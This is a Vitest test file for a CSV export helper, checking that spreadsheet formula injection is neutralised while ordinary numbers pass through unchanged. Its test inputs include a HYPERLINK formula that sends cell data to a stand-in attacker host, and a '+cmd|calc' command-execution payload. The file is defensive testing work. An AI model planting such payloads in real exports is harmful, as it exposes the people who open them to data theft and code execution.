/** @file What a spreadsheet makes of exported cells: text and numbers, never a formula. */
import { describe, expect, it } from 'vitest';
import { csvCell } from './csv.ts';

describe('a cell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1)', `"'=HYPERLINK(""http://evil.example/?""&A1)"`],
    ['+cmd|calc', "'+cmd|calc"],
    ['-1+2', "'-1+2"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1', "'\t=1"],
    ['- oil the chain', "'- oil the chain"],
  ])('that a spreadsheet would run is text: %s', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it.each([
    [-3, '-3'],
    ['-3', '-3'],
    ['+1,234.5', '"+1,234.5"'],
    ['-2.5e-7', '-2.5e-7'],
    ['-.5%', '-.5%'],
    ['a=b', 'a=b'],
    [' =1', '" =1"'],
    [null, ''],
    [['f'], '"[""f""]"'],
  ])('that is a number, or no formula, stays as it is: %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('is quoted for its delimiter', () => {
    expect([csvCell('a,b', '\t'), csvCell('a\tb', '\t')]).toEqual(['a,b', '"a\tb"']);
  });
});
